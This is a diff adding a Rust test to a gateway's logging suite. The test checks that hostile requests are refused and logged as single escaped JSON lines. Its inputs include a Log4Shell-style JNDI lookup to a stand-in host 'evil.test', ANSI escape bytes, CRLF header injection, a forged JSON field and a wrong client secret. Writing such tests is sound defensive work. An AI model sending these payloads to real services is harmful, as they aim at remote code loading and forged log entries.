@@ -1,5 +1,6 @@
 //! What the gateway writes down: each deed once, and every admitted request counted (security L4).
 
+use crate::browser::Browser;
 use crate::daemon::Place;
 use crate::office::Office;
 use narthex_model::{AccessRecord, Action, MasterKey, TrafficCount, Verdict};
@@ -108,4 +109,49 @@ async fn l4_every_deed_is_written_down_once_and_every_request_is_counted() {
             .sum()
     };
     assert_eq!((count(false), count(true)), (4, 5), "{traffic:#?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn l1_hostile_text_makes_one_escaped_line_and_one_record() {
+    let mut office = Office::open(&[SHOP], |_| json!({})).await;
+    let evil = "\" }[31m ${jndi:ldap://evil.test/a} {\"forged\":1}";
+    let mut browser = Browser::new(office.place.wire());
+    let asked = browser.open(SHOP, "/").await;
+    let page =
+        browser.send(&asked, "email", &format!("x{evil}\u{1b}\r\nforged: 1@example.com")).await;
+    assert_eq!(page.status, 400, "{}", page.text);
+    let fields = [
+        ("cf-access-client-id", "e367826f93b8d71185e03fe518aff3b4.access"),
+        ("cf-access-client-secret", "wrong-secret-of-a-robot"),
+        ("user-agent", evil),
+        ("x-hostile", evil),
+        ("accept", "application/json"),
+    ];
+    let long = "a".repeat(8_000);
+    let mut rays = Vec::new();
+    for (path, recorded) in [
+        (format!("/{long}%0d%0a%1b%22$%7bjndi:x%7d"), false), // no path at all
+        (format!("/{long}%22$%7bjndi:x%7d"), true),
+    ] {
+        let mut wire = office.place.wire().open(SHOP).await.unwrap();
+        let refused = wire.ask("GET", &path, &fields, "").await.unwrap();
+        assert!(matches!(refused.status, 400 | 401 | 403), "{refused:?}");
+        rays.push((ray(&refused), recorded));
+    }
+    office.log_in(SHOP, "/").await; // a well-behaved person notices nothing
+    let (place, said) = office.stop_and_tell();
+    for line in said.lines().filter(|line| !line.starts_with("narthexd: ")) {
+        let value: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("{line}"));
+        assert!(value["level"].is_string() && value.get("forged").is_none(), "{line}");
+        assert!(line.len() < 4_096 && !line.contains('\u{1b}'), "{line}");
+        assert!(!line.contains("jndi") && !line.contains("wrong-secret"), "{line}");
+    }
+    let (records, _, _) = written(&place).await;
+    for (ray, recorded) in rays {
+        assert_eq!(said.lines().filter(|line| line.contains(&ray)).count(), 1, "{said}");
+        let of_it = records.iter().filter(|record| record.ray_id.as_str() == ray).count();
+        assert_eq!(of_it, usize::from(recorded), "{records:#?}");
+    }
+    let text = serde_json::to_string(&records).unwrap();
+    assert!(!text.contains("jndi") && !text.contains("forged") && text.len() < 4_096, "{text}");
 }
